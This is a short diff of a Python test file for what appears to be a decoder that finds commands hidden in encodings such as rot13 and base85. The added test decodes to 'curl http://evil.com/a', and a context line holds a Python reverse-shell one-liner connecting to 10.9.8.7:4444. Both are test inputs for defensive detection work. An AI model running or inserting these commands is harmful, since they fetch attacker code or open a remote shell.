@@ -57,6 +57,10 @@ def test_a_name_before_what_is_encoded_is_no_part_of_it(name, wrapped):
     assert chains.PLAIN[1] in results(name + wrapped.strip() + ("';" if name.endswith("'") else ""))
 
 
+def test_the_name_of_an_encoding_is_not_decoded_with_the_rest():
+    assert results("rot13: phey uggc://rivy.pbz/n") == ["curl http://evil.com/a"]
+
+
 def test_backticks_within_a_run_quote_nothing():
     plain = "import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444))"
     wrapped = base64.b85encode(plain.encode()).decode()
